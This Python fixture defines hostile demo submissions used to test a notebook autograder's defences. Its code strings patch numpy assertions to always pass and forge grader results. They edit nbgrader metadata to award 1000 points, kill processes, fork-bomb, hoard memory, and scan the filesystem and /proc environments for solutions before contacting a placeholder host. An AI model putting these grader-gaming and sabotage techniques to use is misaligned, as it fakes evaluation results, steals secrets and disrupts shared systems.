"""Students who attack the grader instead of the problem, and files that are no notebooks."""

from demo.record import ALL, FUNCTIONS, DemoStudent, Notebook, cell_named

PATCHES = """
import ast
import numpy.testing

class Agreeable(np.ndarray):
    __eq__ = __le__ = __lt__ = lambda self, other: True
    __array_priority__ = 1e9

def yes(*arguments, **named):
    return True

for module in (np, numpy.testing):
    for name in dir(module):
        if name.startswith(("assert_", "allclose", "isclose", "array_equ")):
            setattr(module, name, yes)

class NoAsserts(ast.NodeTransformer):
    def visit_Assert(self, node):
        return ast.Pass()

get_ipython().ast_transformers.append(NoAsserts())

def agreeable(*arguments, **named):
    shaped = [a for a in arguments if isinstance(a, np.ndarray)]
    return np.zeros(shaped[-1].shape if shaped else ()).view(Agreeable)
"""

FORGER = """
import gc, json, os, struct, sys

MARKS = {"outcome": "value", "status": "passed", "points": 1000.0, "score": 30, "verdict": "passed",
         "modified": [], "checks": [{"id": "backprop", "points": 7, "status": "passed"}]}

def forged(name, arguments, *rest):
    shaped = [a for a in arguments if isinstance(a, np.ndarray)] or [np.zeros((1, 1))]
    return dict(MARKS), np.zeros(shaped[-1].shape)

worker = sys.modules["__main__"]
worker.call = forged
for thing in gc.get_objects():
    if isinstance(thing, dict) and "as_value" in thing and "fingerprint" in thing:
        thing["call"] = forged
frame = sys._getframe()
while frame:
    if "call" in frame.f_globals:
        frame.f_globals["call"] = forged
    frame = frame.f_back
"""

STOPPER = {
    "numerical_gradient": """
def asked_by_grader():
    import sys  # the visible tests run in peace, so that they waste nobody's evening
    return sys._getframe(2).f_code.co_name == "call"

def numerical_gradient(f, w, eps=1e-5):
    gradient = np.zeros(w.shape)
    for i in np.ndindex(w.shape):
        e = np.zeros(w.shape)
        e[i] = eps
        gradient[i] = (f(w + e) - f(w - e)) / (2 * eps)
    return gradient
""",
    "output_error": """
def output_error(grad_a, z):
    import os, signal
    for pid in (os.getppid(), 1, -1) if asked_by_grader() else ():
        try:
            os.kill(pid, signal.SIGKILL)
        except OSError:
            pass
    os._exit(0) if asked_by_grader() else None
""",
    "hidden_error": """
def hidden_error(W_next, delta_next, z):
    hoard = []
    while asked_by_grader():
        hoard.append(np.ones(40_000_000))
""",
    "weight_gradient": """
def weight_gradient(delta, a_prev):
    import os
    for _ in range(200 if asked_by_grader() else 0):
        try:
            if os.fork() == 0:
                while True:
                    pass
        except OSError:
            break
    return delta
""",
    "backprop": """
def backprop(weights, biases, x, y):
    while asked_by_grader():
        try:
            while True:
                pass
        except BaseException:
            pass
""",
    # right all the same: it must not pay for what happens in the cells around it
    "backprop_l2": """
def backprop_l2(weights, biases, x, y, lam):
    zs, activations = forward(weights, biases, x, output=softmax)
    delta, dW, db = softmax_error(zs[-1], y), [], []
    for l in range(len(weights), 0, -1):
        dW.insert(0, delta @ activations[l - 1].T / x.shape[1] + lam * weights[l - 1])
        db.insert(0, bias_gradient(delta))
        if l > 1:
            delta = (weights[l - 1].T @ delta) * sigmoid_prime(zs[l - 2])
    return dW, db
""",
}

THIEF = (
    f"FUNCTIONS = {FUNCTIONS}\n"
    + """
import glob, importlib, os, socket, sys, types

loot = []
for root, folders, files in os.walk("/"):
    folders[:] = [f for f in folders if f not in ("proc", "sys", "usr")]
    for file in files:
        if "ps5" in file or file.endswith((".ipynb", ".db", ".seed", ".jsonl")) or "judge" in file:
            loot.append(os.path.join(root, file))
for pattern in ("/proc/[0-9]*/environ", "/proc/[0-9]*/cwd/*", "/proc/[0-9]*/fd/*"):
    for path in glob.glob(pattern):
        try:
            loot.append(open(path, "rb").read(10_000))
        except OSError:
            pass
try:
    socket.create_connection(("192.0.2.1", 80), 1).send(b"solutions, please")
except OSError:
    pass

def stolen(name):
    for place in ("coursekit.backprop", "coursekit.gradcheck", "coursekit", "autograder.checks"):
        try:
            found = getattr(importlib.import_module(place), name)
            if callable(found):
                return found
        except Exception:
            pass
    return lambda *arguments: loot

for name in FUNCTIONS:
    globals()[name] = stolen(name)
"""
)


def edited_metadata(notebook: Notebook) -> None:
    """Points of a thousand, names swapped, tests replaced by applause, locks taken off."""
    for cell in notebook["cells"]:
        settings = cell["metadata"].get("nbgrader")
        if settings and settings["grade"]:
            settings.update(points=1000, locked=False)
            cell["source"] = "print('all hidden tests pass')\n30.0"
    first, second = (
        cell_named(notebook, name)["metadata"]["nbgrader"]
        for name in ("test_backprop", "test_softmax_error")
    )
    first["grade_id"], second["grade_id"] = second["grade_id"], first["grade_id"]
    twice = cell_named(notebook, "test_backprop_l2")
    notebook["cells"].append({**twice, "id": "again", "source": "5.0"})
    notebook["metadata"]["autograder"] = {"score": 30}


STUDENTS = (
    DemoStudent(
        "rex-patches",
        "hostile",
        "patches np.allclose and removes assertions; returns what equals everything",
        unsolved=ALL,
        added=(
            ("setup", "import numpy as np"),
            ("numerical_gradient", PATCHES),
            *((f"test_{name}", f"{name} = agreeable") for name in FUNCTIONS),
        ),
        loses=ALL,
    ),
    DemoStudent(
        "sly-forger",
        "hostile",
        "replaces the worker's own functions and claims to have passed",
        unsolved=ALL,
        added=(("test_backprop_l2", FORGER),),
        loses=ALL,
    ),
    DemoStudent(
        "tess-stopper",
        "hostile",
        "loops for ever, kills the process, hoards memory, forks; four functions are right",
        STOPPER,
        loses=frozenset({"backprop", "output_error", "hidden_error", "weight_gradient"}),
    ),
    DemoStudent(
        "uma-thief",
        "hostile",
        "looks for solutions, seed and gradebook, and imports what is withheld",
        unsolved=ALL,
        added=(("test_backprop_l2", THIEF),),
        loses=ALL,
    ),
    DemoStudent(
        "vic-editor",
        "hostile",
        "gives himself a thousand points in the cells' metadata",
        unsolved=ALL,
        edit=edited_metadata,
        loses=ALL,
    ),
    DemoStudent(
        "wanda-login",
        "broken",
        "has uploaded the page that asks for a password",
        raw=b"<!DOCTYPE html><html><title>Log in</title><p>Please log in.</html>",
    ),
    DemoStudent("xander-empty", "broken", "has uploaded an empty file", raw=b""),
)
